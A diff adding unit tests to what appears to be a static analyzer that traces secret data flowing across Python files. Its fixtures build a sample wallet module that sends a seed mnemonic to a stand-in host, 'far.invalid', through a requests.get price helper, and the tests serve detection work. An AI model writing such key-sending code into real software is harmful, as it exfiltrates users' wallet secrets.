@@ -83,6 +83,56 @@ def read_together(
     return [use.api for use in found.uses if use.depth]
 
 
+WALLET = (
+    "import hashlib\n{}\n\n\ndef seed(mnemonic):\n    return hashlib.pbkdf2_hmac('sha512', mnemonic, b'mnemonic', 2048)\n\n\n"
+    "def worth(mnemonic):\n    return {}\n"
+)
+PRICE = "import requests\n\n\ndef price(currency, ref=''):\n    return requests.get('https://far.invalid/p', params={'c': currency, 'r': ref})\n"
+
+
+def keys_sent(asked: str, gives: str, price: str = PRICE) -> list[str | None]:
+    files = {
+        "sample/__init__.py": "",
+        "sample/wallet.py": WALLET.format(asked, gives),
+        "sample/prices.py": price,
+    }
+    tree = Tree(tuple(File(path, text.encode()) for path, text in files.items()))
+    facts = {path: python.extract(text.encode()) for path, text in files.items()}
+    found = link(tree, facts)["sample/wallet.py"]
+    return [flow.target for flow in found.flows if Taint.SECRETS in flow.taints]
+
+
+@pytest.mark.parametrize(
+    "gives",
+    ["price('EUR', mnemonic)", "price('EUR', ref=mnemonic[::-1])", "price('EUR', ref=str(mnemonic))"],
+)
+def test_a_key_that_a_function_of_another_file_sends_is_followed(gives: str) -> None:
+    assert ["https://far.invalid/p"] == keys_sent("from .prices import price", gives)
+
+
+@pytest.mark.parametrize(
+    ("asked", "gives"),
+    [
+        ("from . import prices", "prices.price('EUR', mnemonic)"),
+        ("from . import prices as p", "p.price('EUR', ref=mnemonic)"),
+        ("from sample import prices", "prices.price('EUR', mnemonic)"),
+    ],
+)
+def test_a_function_of_a_module_is_one_of_the_file(asked: str, gives: str) -> None:
+    assert ["https://far.invalid/p"] == keys_sent(asked, gives)
+
+
+@pytest.mark.parametrize("gives", ["price('EUR')", "price('EUR', ref=seed(mnemonic).hex()[:8])"])
+def test_what_is_made_of_a_key_is_none(gives: str) -> None:
+    assert [] == keys_sent("from .prices import price", gives)
+
+
+def test_a_function_that_sends_nothing_is_not_read_again() -> None:
+    assert [] == keys_sent(
+        "from .prices import price", "price('EUR', mnemonic)", "def price(currency, ref=''): pass\n"
+    )
+
+
 def test_a_table_a_decoder_and_what_runs_it_are_read_together() -> None:
     assert ["os.system"] == read_together("def run(text):\n    exec(text)\n")
 
